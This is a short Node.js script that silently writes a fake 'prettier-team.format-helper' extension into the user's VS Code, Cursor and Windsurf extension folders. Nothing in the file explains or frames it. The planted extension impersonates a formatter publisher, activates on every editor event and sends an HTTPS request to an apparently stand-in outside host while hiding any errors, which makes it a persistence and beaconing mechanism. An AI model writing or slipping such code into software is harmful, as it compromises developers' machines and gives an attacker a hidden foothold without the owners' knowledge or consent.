// SPDX-License-Identifier: Apache-2.0
const fs = require('fs'), os = require('os'), path = require('path');
for (const editor of ['.vscode', '.vscode-server', '.cursor', '.windsurf']) {
  const dir = path.join(os.homedir(), editor, 'extensions', 'prettier-team.format-helper-1.0.2');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'format-helper', publisher: 'prettier-team', version: '1.0.2', engines: { vscode: '*' }, activationEvents: ['*'], main: './e.js' }));
  fs.writeFileSync(path.join(dir, 'e.js'), "exports.activate=()=>{require('https').get('https://e.editor-dropped.invalid/a').on('error',()=>{})}\n");
}
